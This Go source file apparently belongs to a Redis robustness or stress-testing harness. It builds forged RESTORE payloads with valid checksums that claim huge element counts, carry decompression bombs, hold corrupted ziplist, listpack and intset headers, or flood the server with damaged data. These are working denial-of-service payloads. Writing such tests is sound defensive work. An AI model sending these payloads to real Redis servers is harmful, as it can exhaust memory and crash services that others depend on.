package main

import (
	"encoding/binary"
	"hash/crc64"
	"strings"
)

// payload is what RESTORE takes: a type, a body, the version and a checksum that fits.
func payload(kind byte, body string) string {
	p := append([]byte{kind}, body...)
	p = append(p, 10, 0)
	// Redis's checksum does not invert its register, as that of Go does.
	sum := ^crc64.Update(^uint64(0), crc64.MakeTable(0x95AC9329AC4BC9B5), p)
	return string(binary.LittleEndian.AppendUint64(p, sum))
}

// length is the number n as payloads have it.
func length(n uint64) string {
	return string(binary.BigEndian.AppendUint64([]byte{0x81}, n))
}

// bulk is a string of a payload.
func bulk(text string) string { return length(uint64(len(text))) + text }

// packed is a string of a payload that claims to be long before it was compressed.
func packed(text string, claims uint64) string {
	return "\xc3" + length(uint64(len(text))) + length(claims) + text
}

func restore(kind byte, body string) func(*attacker) {
	return func(x *attacker) { x.do("RESTORE", "k", "0", payload(kind, body)) }
}

// The types of payloads.
const (
	rdbString, rdbList, rdbSet, rdbHash = 0, 1, 2, 4
	rdbZset2, rdbZiplist, rdbIntset     = 5, 10, 11
	rdbListpackHash, rdbQuicklist2      = 16, 18
	rdbStream3                          = 21
)

// restoreRows are payloads that claim more than they hold.
func restoreRows() []attack {
	const much = 1 << 24
	kinds := []struct {
		name string
		kind byte
	}{{"list", rdbList}, {"set", rdbSet}, {"hash", rdbHash}, {"sorted set", rdbZset2},
		{"quicklist", rdbQuicklist2}, {"stream", rdbStream3}}
	var rows []attack
	for _, k := range kinds {
		rows = append(rows, attack{name: "restore: " + k.name + " of 2^24",
			does: "RESTORE of a " + k.name + " that claims 2^24 elements.", short: 1, full: 1,
			run: restore(k.kind, length(much)+bulk("a"))},
			attack{name: "restore: " + k.name + " of 2^60",
				does: "RESTORE of a " + k.name + " that claims 2^60 elements.", short: 1, full: 1,
				run: restore(k.kind, length(1<<60)+bulk("a")+bulk("1"))})
	}
	return append(rows,
		attack{name: "restore: string of 2^32", does: "RESTORE of a string that claims 2^32 bytes.",
			short: 1, full: 1, run: restore(rdbString, length(1<<32)+"x")},
		attack{name: "restore: packed string", does: "RESTORE of a short compressed string that claims 500 MB.",
			short: 1, full: 1, run: restore(rdbString, packed("\x00x", 500<<20))},
		attack{name: "restore: packed strings",
			does: "RESTORE of a list of 1,000 compressed strings that claim 100 MB each.", short: 1, full: 1,
			run: restore(rdbList, length(1_000)+strings.Repeat(packed("\x00x", 100<<20), 1_000))},
		attack{name: "restore: bomb", does: "RESTORE of a compressed string of n bytes that are all alike.",
			short: 5_000_000, full: 200_000_000, known: "large values are copied", run: func(x *attacker) {
				// One byte as it is, then references to it: each of 264 bytes.
				times := x.n / 264
				x.do("RESTORE", "k", "0", payload(rdbString, packed("\x00x"+strings.Repeat("\xe0\xff\x00", times),
					uint64(1+264*times))))
			}},
		attack{name: "restore: intset", does: "RESTORE of an intset that claims 2^32 integers.", short: 1, full: 1,
			run: restore(rdbIntset, bulk("\x02\x00\x00\x00\xff\xff\xff\xff\x01\x00"))},
		attack{name: "restore: ziplist", does: "RESTORE of a ziplist whose lengths lie.", short: 1, full: 1,
			run: restore(rdbZiplist, bulk("\xff\xff\xff\x7f\x0a\x00\x00\x00\xff\xff\x00\xff"))},
		attack{name: "restore: listpack", does: "RESTORE of a hash whose listpack lies.", short: 1, full: 1,
			run: restore(rdbListpackHash, bulk("\xff\xff\xff\x7f\xff\xff\x81a\x02\xff"))},
		attack{name: "restore: equal members", does: "RESTORE of a set of n equal members.",
			short: 100_000, full: 3_000_000, run: func(x *attacker) {
				x.do("RESTORE", "k", "0", payload(rdbSet, length(uint64(x.n))+strings.Repeat("\x01a", x.n)))
			}},
		attack{name: "restore: list", does: "RESTORE of a list of n elements.", short: 100_000, full: 5_000_000,
			run: func(x *attacker) {
				x.do("RESTORE", "k", "0", payload(rdbList, length(uint64(x.n))+strings.Repeat("\x01a", x.n)))
			}},
		attack{name: "restore: damaged", does: "RESTORE of n payloads with a wrong checksum.",
			short: 5_000, full: 200_000, run: func(x *attacker) {
				damaged := payload(rdbString, bulk(strings.Repeat("x", 1_000))) + "x"
				x.pipe(x.n, func(int) []string { return []string{"RESTORE", "k", "0", damaged} })
			}},
	)
}
